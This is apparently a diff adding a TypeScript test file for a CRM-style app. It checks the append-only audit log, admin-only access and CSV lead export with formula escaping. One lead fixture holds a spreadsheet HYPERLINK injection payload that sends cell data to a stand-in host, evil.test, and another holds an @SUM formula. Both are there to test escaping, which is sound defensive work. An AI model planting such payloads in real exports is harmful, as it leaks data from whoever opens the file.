@@ -1,0 +1,108 @@
+import { parse } from 'csv-parse/sync';
+import { ADMIN, createAgent, createTestApp, login, TestApp } from './harness';
+
+/** Issue 15 points 6 and 7: the audit log (append-only, with who/when/where/what) and the CSV export of the inbox. */
+describe('audit log and lead export (HTTP, real PostgreSQL)', () => {
+  let t: TestApp;
+  let admin: string;
+  let agent: { id: string; token: string; email: string };
+
+  beforeAll(async () => {
+    t = await createTestApp();
+    admin = await login(t);
+    agent = await createAgent(t, admin, 'Audra Audit');
+  });
+  afterAll(() => t.close());
+
+  const audit = async (query: string, token = admin) => {
+    const res = await t.request({ method: 'GET', url: `/api/audit?${query}`, token });
+    expect(res.status).toBe(200);
+    return res.body as { items: Array<Record<string, unknown>>; total: number };
+  };
+
+  it('records sign-ins and failed sign-ins with the address they came from', async () => {
+    const bad = await t.request({ method: 'POST', url: '/api/auth/login', body: { email: ADMIN.email, password: 'nope-nope-nope' }, headers: { 'x-forwarded-for': '203.0.113.9' } });
+    expect(bad.status).toBe(401);
+    const good = await t.request({ method: 'POST', url: '/api/auth/login', body: ADMIN, headers: { 'x-forwarded-for': '198.51.100.7', 'user-agent': 'AuditTest/1.0' } });
+    expect(good.status).toBe(200);
+
+    const failed = await audit('action=auth.sign_in_failed');
+    expect(failed.items[0]).toMatchObject({ action: 'auth.sign_in_failed', actorName: ADMIN.email, ip: '203.0.113.9', changes: { reason: 'wrong email or password' } });
+    const ok = await audit('action=auth.signed_in');
+    expect(ok.items[0]).toMatchObject({ action: 'auth.signed_in', actorName: 'Ada Admin', ip: '198.51.100.7', userAgent: 'AuditTest/1.0' });
+  });
+
+  it('records role changes with from/to, API key creation and use, and filters by actor and target', async () => {
+    const admins = await audit('action=user.created');
+    expect(admins.items.some((e) => e.targetId === agent.id)).toBe(true);
+
+    const patch = await t.request({ method: 'PATCH', url: `/api/users/${agent.id}`, token: admin, body: { role: 'team_lead', team: 'North' } });
+    expect(patch.status).toBe(200);
+    const changed = await audit(`action=user.updated&targetId=${agent.id}`);
+    expect(changed.items[0]).toMatchObject({ actorName: 'Ada Admin', targetType: 'user', changes: { role: { from: 'agent', to: 'team_lead' }, team: { from: null, to: 'North' } } });
+
+    const key = await t.request({ method: 'POST', url: '/api/api-keys', token: admin, body: { name: 'Zapier' } });
+    expect(key.status).toBe(201);
+    const created = await audit(`action=api_key.created&targetId=${key.body.id}`);
+    expect(created.items).toHaveLength(1);
+    expect(JSON.stringify(created.items[0])).not.toContain(key.body.key);
+
+    expect((await t.request({ method: 'GET', url: '/api/leads', apiKey: key.body.key })).status).toBe(200);
+    const used = await audit(`action=api_key.used&targetId=${key.body.id}`);
+    expect(used.items[0]).toMatchObject({ apiKeyId: key.body.id, targetType: 'api_key' });
+
+    const me = (await t.request({ method: 'GET', url: '/api/auth/me', token: admin })).body as { id: string };
+    const mine = await audit(`actorId=${me.id}&pageSize=200`);
+    expect(mine.items.every((e) => e.actorId === me.id)).toBe(true);
+    expect(new Set(mine.items.map((e) => e.action))).toEqual(expect.objectContaining({}));
+  });
+
+  it('is for admins only, and validates its filters', async () => {
+    expect((await t.request({ method: 'GET', url: '/api/audit', token: agent.token })).status).toBe(403);
+    const bad = await t.request({ method: 'GET', url: '/api/audit?action=coffee.made', token: admin });
+    expect(bad.status).toBe(400);
+  });
+
+  it('cannot be changed or deleted, not even by the app database user', async () => {
+    await expect(t.db.query(`UPDATE audit_log SET action = 'auth.signed_in'`)).rejects.toThrow(/append-only/);
+    await expect(t.db.query(`DELETE FROM audit_log`)).rejects.toThrow(/append-only/);
+    await expect(t.db.query(`TRUNCATE audit_log`)).rejects.toThrow(/append-only/);
+  });
+
+  it('exports the inbox filter as CSV with the columns asked for, escapes formulas, and records the export', async () => {
+    const mk = (name: string, email: string, phone?: string) =>
+      t.request({ method: 'POST', url: '/api/leads', token: admin, body: { source: 'phone', contact: { name, email, ...(phone ? { phone } : {}) } } });
+    expect((await mk('=HYPERLINK("http://evil.test/?"&A1,"click")', 'evil@example.com')).status).toBe(201);
+    expect((await mk('Jane Export', 'jane.export@example.com', '+1 206 555 0101')).status).toBe(201);
+    expect((await mk('@SUM(1+1)', '-x@example.com')).status).toBe(201);
+
+    const res = await t.request({ method: 'GET', url: '/api/leads/export?q=example.com&columns=name,email,phone,stage&sort=created', token: admin });
+    expect(res.status).toBe(200);
+    expect(res.headers['content-type']).toContain('text/csv');
+    expect(res.headers['content-disposition']).toMatch(/attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"/);
+    const rows: string[][] = parse(res.body as string, { bom: true });
+    expect(rows[0]).toEqual(['Name', 'Email', 'Phone', 'Stage']);
+    expect(rows.slice(1)).toEqual([
+      [`'=HYPERLINK("http://evil.test/?"&A1,"click")`, 'evil@example.com', '', 'New'],
+      ['Jane Export', 'jane.export@example.com', '+12065550101', 'New'],
+      [`'@SUM(1+1)`, `'-x@example.com`, '', 'New'],
+    ]);
+
+    const rec = await audit('action=export.leads');
+    expect(rec.items[0]).toMatchObject({ actorName: 'Ada Admin', targetType: 'inbox', changes: { filters: { q: 'example.com' }, columns: ['name', 'email', 'phone', 'stage'], sort: 'created' } });
+  });
+
+  it("exports only the leads the caller can see, and refuses unknown columns", async () => {
+    const other = await createAgent(t, admin, 'Otto Other');
+    const theirs = await t.request({ method: 'POST', url: '/api/leads', token: other.token, body: { source: 'phone', contact: { name: 'Secret Sam', email: 'sam.secret@example.org' } } });
+    expect(theirs.status).toBe(201);
+    const lead = await t.request({ method: 'POST', url: '/api/leads', token: agent.token, body: { source: 'phone', contact: { name: 'Visible Val', email: 'val@example.org' } } });
+    expect(lead.status).toBe(201);
+    const agentToken = await login(t, agent.email, 'agent-password-1');
+    const res = await t.request({ method: 'GET', url: '/api/leads/export?q=example.org', token: agentToken });
+    expect(res.status).toBe(200);
+    expect(res.body).toContain('Visible Val');
+    expect(res.body).not.toContain('Secret Sam');
+    expect((await t.request({ method: 'GET', url: '/api/leads/export?columns=name,password', token: admin })).status).toBe(400);
+  });
+});
